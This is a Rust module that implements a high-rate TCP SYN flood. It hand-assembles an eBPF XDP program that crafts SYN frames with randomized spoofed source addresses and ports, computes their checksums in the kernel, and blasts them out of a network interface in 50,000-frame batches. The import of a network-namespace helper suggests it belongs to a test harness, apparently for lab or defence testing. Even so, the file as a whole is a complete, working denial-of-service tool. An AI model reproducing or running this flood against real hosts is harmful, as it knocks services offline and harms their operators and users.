//! A SYN flood at full speed: frames that the kernel makes itself
//! (`BPF_F_TEST_XDP_LIVE_FRAMES`), each from another address and port.
//!
//! The program writes the whole frame each time: the kernel uses the pages again as whoever had
//! them last has left them.

use std::{
    io,
    net::Ipv4Addr,
    os::fd::{AsFd as _, FromRawFd as _, OwnedFd},
};

use crate::{bpf, netns::Namespace, wait};

/// Sources of a flood are within this network, whose first half word is written here: nobody is
/// at home there, so that nothing answers a SYN-ACK.
pub const SOURCES: &str = "10.192.0.0/10";

/// Frames that one system call sends at most; between two of them a flood can end.
const CHUNK: u64 = 50_000;

const FRAME_BYTES: usize = 54;

/// A SYN flood on its way out of an interface.
#[derive(Debug)]
pub struct Flood {
    program: OwnedFd,
}

impl Flood {
    /// Makes one in this thread's namespace, from `interface` to the host with `mac`.
    ///
    /// # Errors
    /// When there is no such interface, or the kernel refuses the program.
    pub fn new(interface: &str, mac: [u8; 6], to: Ipv4Addr, port: u16) -> io::Result<Self> {
        let ifindex = nix::net::if_::if_nametoindex(interface)?;
        Ok(Self { program: load(&program(ifindex, &template(mac, to, port)))? })
    }

    /// Sends `frames` of them, or fewer when `go_on` says no. Returns how many.
    ///
    /// # Errors
    /// When the kernel refuses: live frames need kernel 5.18.
    pub fn send(&self, frames: u64, mut go_on: impl FnMut() -> bool) -> io::Result<u64> {
        let mut sent = 0;
        while sent < frames && go_on() {
            let chunk = CHUNK.min(frames - sent);
            // One that is interrupted is sent again, from its beginning.
            wait::uninterrupted(|| {
                bpf::send_live(self.program.as_fd(), &[0; FRAME_BYTES], chunk as u32)
            })?;
            sent += chunk;
        }
        Ok(sent)
    }
}

/// The MAC address of an interface of a namespace.
///
/// # Errors
/// When there is none.
pub fn mac_of(namespace: &Namespace, interface: &str) -> io::Result<[u8; 6]> {
    namespace.run(|| {
        let mut addresses = nix::ifaddrs::getifaddrs()?;
        let link = addresses.find_map(|a| {
            let link = a.address?.as_link_addr()?.addr()?;
            (a.interface_name == interface).then_some(link)
        });
        link.ok_or_else(|| io::Error::new(io::ErrorKind::NotFound, interface.to_owned()))
    })
}

/// A SYN whose source address and port, low half of the sequence number and checksums are zero.
fn template(mac: [u8; 6], to: Ipv4Addr, port: u16) -> [u8; FRAME_BYTES] {
    let mut frame = [0; FRAME_BYTES];
    frame[..6].copy_from_slice(&mac);
    frame[6..12].copy_from_slice(&[2, 0, 0, 0, 0, 1]);
    frame[12..14].copy_from_slice(&[8, 0]);
    // Version and length, total length 40, TTL 64, TCP.
    frame[14..24].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6]);
    frame[30..34].copy_from_slice(&to.octets());
    frame[36..38].copy_from_slice(&port.to_be_bytes());
    // Header length, SYN, window.
    frame[46..50].copy_from_slice(&[5 << 4, 2, 0xff, 0xff]);
    frame
}

/// The sum of 16-bit words as they lie in memory (RFC 1071 does not mind which end is first).
fn sum(bytes: &[u8]) -> u32 {
    bytes.as_chunks::<2>().0.iter().map(|word| u32::from(u16::from_ne_bytes(*word))).sum()
}

/// One instruction (linux/bpf.h, `struct bpf_insn`).
fn insn(code: u8, dst: u8, src: u8, off: i16, imm: u32) -> u64 {
    let registers = u64::from(src << 4 | dst) << 8;
    u64::from(code) | registers | u64::from(off.cast_unsigned()) << 16 | u64::from(imm) << 32
}

/// The program: writes the frame with random parts, and sends it out of the interface.
fn program(ifindex: u32, template: &[u8; FRAME_BYTES]) -> Vec<u64> {
    const LDX_W: u8 = 0x61;
    const ST_W: u8 = 0x62;
    const ST_H: u8 = 0x6a;
    const STX_H: u8 = 0x6b;
    const MOV: u8 = 0xbf;
    const MOV_IMM: u8 = 0xb7;
    const ADD: u8 = 0x0f;
    const ADD_IMM: u8 = 0x07;
    const AND_IMM: u8 = 0x57;
    const OR_IMM: u8 = 0x47;
    const XOR_IMM: u8 = 0xa7;
    const SHL_IMM: u8 = 0x67;
    const SHR_IMM: u8 = 0x77;
    const JGT: u8 = 0x2d;
    const CALL: u8 = 0x85;
    const EXIT: u8 = 0x95;
    const PRANDOM: u32 = 7;
    const REDIRECT: u32 = 23;
    const XDP_DROP: u32 = 1;
    let mut code = vec![
        insn(LDX_W, 7, 1, 0, 0),
        insn(LDX_W, 8, 1, 4, 0),
        insn(MOV, 2, 7, 0, 0),
        insn(ADD_IMM, 2, 0, 0, FRAME_BYTES as u32),
    ];
    let bounds = code.len();
    code.push(0);
    let words = template.as_chunks::<4>();
    for (at, word) in (0_i16..).step_by(4).zip(words.0) {
        code.push(insn(ST_W, 7, 0, at, u32::from_ne_bytes(*word)));
    }
    code.push(insn(ST_H, 7, 0, 52, 0));
    // The sum of what is random in both checksums' reach: r9; of the rest of TCP's: r6.
    code.extend([
        insn(CALL, 0, 0, 0, PRANDOM),
        insn(MOV, 9, 0, 0, 0),
        insn(AND_IMM, 9, 0, 0, 0xffff),
        insn(STX_H, 7, 9, 28, 0),
        insn(MOV, 6, 0, 0, 0),
        insn(SHR_IMM, 6, 0, 0, 16),
        insn(AND_IMM, 6, 0, 0, 0xffff),
        insn(OR_IMM, 6, 0, 0, 4),
        insn(STX_H, 7, 6, 34, 0),
        insn(CALL, 0, 0, 0, PRANDOM),
        insn(MOV, 1, 0, 0, 0),
        insn(AND_IMM, 1, 0, 0, 0x3f),
        insn(OR_IMM, 1, 0, 0, 0xc0),
        insn(SHL_IMM, 1, 0, 0, 8),
        insn(OR_IMM, 1, 0, 0, 10),
        insn(STX_H, 7, 1, 26, 0),
        insn(ADD, 9, 1, 0, 0),
        insn(SHR_IMM, 0, 0, 0, 16),
        insn(AND_IMM, 0, 0, 0, 0xffff),
        insn(STX_H, 7, 0, 40, 0),
        insn(ADD, 6, 0, 0, 0),
        insn(ADD, 6, 9, 0, 0),
    ]);
    // The pseudo-header: addresses, protocol, length of the segment.
    let pseudo = sum(&template[30..34]) + sum(&[0, 6]) + sum(&[0, 20]);
    for (register, at, rest) in
        [(9, 24, sum(&template[14..34])), (6, 50, pseudo + sum(&template[34..54]))]
    {
        code.push(insn(ADD_IMM, register, 0, 0, rest));
        for _ in 0..2 {
            code.extend([
                insn(MOV, 1, register, 0, 0),
                insn(SHR_IMM, 1, 0, 0, 16),
                insn(AND_IMM, register, 0, 0, 0xffff),
                insn(ADD, register, 1, 0, 0),
            ]);
        }
        code.extend([insn(XOR_IMM, register, 0, 0, 0xffff), insn(STX_H, 7, register, at, 0)]);
    }
    code.extend([
        insn(MOV_IMM, 1, 0, 0, ifindex),
        insn(MOV_IMM, 2, 0, 0, 0),
        insn(CALL, 0, 0, 0, REDIRECT),
        insn(EXIT, 0, 0, 0, 0),
    ]);
    let drop = code.len();
    code.extend([insn(MOV_IMM, 0, 0, 0, XDP_DROP), insn(EXIT, 0, 0, 0, 0)]);
    code[bounds] = insn(JGT, 2, 8, (drop - bounds - 1) as i16, 0);
    code
}

fn load(code: &[u64]) -> io::Result<OwnedFd> {
    /// The beginning of `union bpf_attr` for `BPF_PROG_LOAD`.
    #[repr(C)]
    struct ProgLoad {
        prog_type: u32,
        insn_cnt: u32,
        insns: u64,
        license: u64,
    }
    const BPF_PROG_LOAD: libc::c_long = 5;
    const BPF_PROG_TYPE_XDP: u32 = 6;
    let attr = ProgLoad {
        prog_type: BPF_PROG_TYPE_XDP,
        insn_cnt: code.len() as u32,
        insns: code.as_ptr() as u64,
        license: c"GPL".as_ptr() as u64,
    };
    // SAFETY: both pointers are to memory that outlives the call, of the size that is said.
    let fd = unsafe { libc::syscall(libc::SYS_bpf, BPF_PROG_LOAD, &attr, size_of::<ProgLoad>()) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: the kernel has just made this descriptor for us.
    Ok(unsafe { OwnedFd::from_raw_fd(fd as i32) })
}
